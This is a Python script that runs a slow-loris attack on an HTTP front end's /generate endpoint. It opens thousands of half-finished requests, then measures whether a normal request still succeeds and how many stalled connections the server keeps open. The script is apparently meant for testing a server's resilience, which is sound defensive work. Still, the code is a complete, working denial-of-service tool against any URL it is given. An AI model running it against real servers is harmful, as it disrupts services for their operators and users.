#!/usr/bin/env python3
"""Slow-loris against a front: opens N connections that each send half a request head and
stall, then (1) times a good request while they are open, (2) counts how many of them the
server still holds open after --hold seconds. Standard library only.

  stall.py --url http://127.0.0.1:8080 --connections 3000 --hold 35
"""
import argparse
import http.client
import json
import socket
import time
import urllib.parse


def still_open(s):
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def good_request(host, port):
    started = time.time()
    try:
        conn = http.client.HTTPConnection(host, port, timeout=10)
        body = json.dumps({"inputs": "hi", "parameters": {"max_new_tokens": 2}})
        conn.request("POST", "/generate", body, {"content-type": "application/json"})
        status = conn.getresponse().status
    except Exception as e:  # refused or reset
        status = f"{type(e).__name__}"
    return status, time.time() - started


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--url", required=True)
    p.add_argument("--connections", type=int, default=3000)
    p.add_argument("--hold", type=float, default=35)
    a = p.parse_args()
    u = urllib.parse.urlparse(a.url)
    socks, failed = [], 0
    for _ in range(a.connections):
        try:
            s = socket.create_connection((u.hostname, u.port), timeout=1)
            s.sendall(b"POST /generate HTTP/1.1\r\nHost: x\r\nContent-")
            socks.append(s)
        except OSError:
            failed += 1
            if failed >= 20:  # the server no longer takes connections
                break
    opened_at = time.time()
    time.sleep(0.5)
    status, secs = good_request(u.hostname, u.port)
    held_after_1s = sum(still_open(s) for s in socks)
    time.sleep(max(0.0, a.hold - (time.time() - opened_at)))
    held = sum(still_open(s) for s in socks)
    print(json.dumps({
        "connections": a.connections,
        "connected": len(socks),
        "connect_failed": failed,
        "good_request_status": status,
        "good_request_secs": round(secs, 3),
        "still_open_at_1s": held_after_1s,
        "hold_secs": a.hold,
        "still_open_after_hold": held,
    }, indent=2))


if __name__ == "__main__":
    main()
